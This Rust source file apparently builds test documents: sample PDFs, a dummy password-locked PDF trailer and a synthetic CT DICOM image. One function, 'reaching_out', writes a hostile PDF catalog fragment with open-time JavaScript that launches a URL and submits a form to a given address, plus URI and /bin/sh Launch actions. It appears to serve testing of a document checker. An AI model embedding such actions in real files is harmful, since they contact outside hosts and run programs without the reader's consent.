//! Documents written by hand: sound ones, and such as try to do something.

/// A PDF from numbered objects (1 is the catalog).
fn pdf(objects: &[String], trailer: &str) -> Vec<u8> {
    let mut out = b"%PDF-1.7\n".to_vec();
    let mut places = Vec::new();
    for (number, object) in objects.iter().enumerate() {
        places.push(out.len());
        out.extend(format!("{} 0 obj\n{object}\nendobj\n", number + 1).into_bytes());
    }
    let table = out.len();
    let size = objects.len() + 1;
    out.extend(format!("xref\n0 {size}\n0000000000 65535 f \n").into_bytes());
    for place in places {
        out.extend(format!("{place:010} 00000 n \n").into_bytes());
    }
    let end =
        format!("trailer\n<< /Size {size} /Root 1 0 R {trailer} >>\nstartxref\n{table}\n%%EOF\n");
    out.extend(end.into_bytes());
    out
}

fn stream(content: &str) -> String {
    format!("<< /Length {} >>\nstream\n{content}\nendstream", content.len())
}

/// A letter, a page for each list of lines; `extra` stands in its catalog.
pub fn letter(pages: &[&[&str]], extra: &str, trailer: &str) -> Vec<u8> {
    let font = 3 + 2 * pages.len();
    let kids: Vec<String> = (0..pages.len()).map(|n| format!("{} 0 R", 3 + 2 * n)).collect();
    let mut objects = vec![
        format!("<< /Type /Catalog /Pages 2 0 R {extra} >>"),
        format!("<< /Type /Pages /Kids [{}] /Count {} >>", kids.join(" "), pages.len()),
    ];
    for (n, lines) in pages.iter().enumerate() {
        objects.push(format!(
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents {} 0 R \
             /Resources << /Font << /F1 {font} 0 R >> >> >>",
            4 + 2 * n
        ));
        let words: Vec<String> = lines.iter().map(|line| format!("({line}) Tj T*")).collect();
        let words = words.join("\n");
        objects.push(stream(&format!("BT /F1 13 Tf 20 TL 72 750 Td\n{words}\nET")));
    }
    objects.push("<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>".to_owned());
    objects.push("<< /CreationDate (D:20180806101112+02'00') >>".to_owned());
    let info = objects.len();
    pdf(&objects, &format!("/Info {info} 0 R {trailer}"))
}

/// What stands in a catalog to run when the document is opened, and to reach out to `address`.
pub fn reaching_out(address: &str) -> String {
    format!(
        "/OpenAction << /S /JavaScript /JS (app.launchURL\\('{address}js'\\); this.submitForm\\('{address}form'\\)) >> \
         /AA << /WC << /S /URI /URI ({address}uri) >> /DS << /S /Launch /F (/bin/sh) >> >>"
    )
}

/// The trailer of a document that needs a password.
pub const LOCKED: &str = "/Encrypt << /Filter /Standard /V 2 /R 3 /Length 128 /P -44 \
    /O <0102030405060708091011121314151617181920212223242526272829303132> \
    /U <0102030405060708091011121314151617181920212223242526272829303132> >> \
    /ID [<01020304> <01020304>]";

/// A computer tomograph's picture, 256 × 256: a round body in air.
pub fn tomogram() -> Vec<u8> {
    let mut data = Vec::new();
    let mut put = |group: u16, element: u16, kind: &[u8; 2], value: &[u8]| {
        data.extend(group.to_le_bytes());
        data.extend(element.to_le_bytes());
        data.extend(kind);
        let length = u32::try_from(value.len()).unwrap();
        if kind == b"OW" {
            data.extend([0, 0]);
            data.extend(length.to_le_bytes());
        } else {
            data.extend(u16::try_from(length).unwrap().to_le_bytes());
        }
        data.extend(value);
    };
    put(0x0002, 0x0010, b"UI", b"1.2.840.10008.1.2.1\0");
    put(0x0008, 0x0016, b"UI", b"1.2.840.10008.5.1.4.1.1.2\0");
    put(0x0008, 0x0018, b"UI", b"1.2.3.4\0");
    put(0x0008, 0x0020, b"DA", b"20190305");
    put(0x0008, 0x0060, b"CS", b"CT");
    put(0x0008, 0x1030, b"LO", b"Sample tomogram ");
    put(0x0028, 0x0002, b"US", &[1, 0]);
    put(0x0028, 0x0004, b"CS", b"MONOCHROME2 ");
    put(0x0028, 0x0010, b"US", &[0, 1]);
    put(0x0028, 0x0011, b"US", &[0, 1]);
    put(0x0028, 0x0100, b"US", &[16, 0]);
    put(0x0028, 0x0101, b"US", &[16, 0]);
    put(0x0028, 0x0102, b"US", &[15, 0]);
    put(0x0028, 0x0103, b"US", &[0, 0]);
    put(0x0028, 0x1050, b"DS", b"40");
    put(0x0028, 0x1051, b"DS", b"400 ");
    put(0x0028, 0x1052, b"DS", b"-1024 ");
    put(0x0028, 0x1053, b"DS", b"1 ");
    let mut pixels = Vec::new();
    for y in -128_i32..128 {
        for x in -128_i32..128 {
            let from_middle = x * x + y * y * 3 / 2;
            let spine = x * x + (y - 55) * (y - 55);
            let value: u16 = match (from_middle, spine) {
                (_, 0..200) => 1900,
                (9_000.., _) => 24,
                (6_500.., _) => 1080,
                _ if x.abs() > 18 => 224,
                _ => 1070,
            };
            pixels.extend(value.to_le_bytes());
        }
    }
    put(0x7fe0, 0x0010, b"OW", &pixels);
    let mut file = vec![0; 128];
    file.extend(b"DICM");
    file.extend([2, 0, 0, 0, b'U', b'L', 4, 0]);
    file.extend(28_u32.to_le_bytes());
    file.extend(data);
    file
}
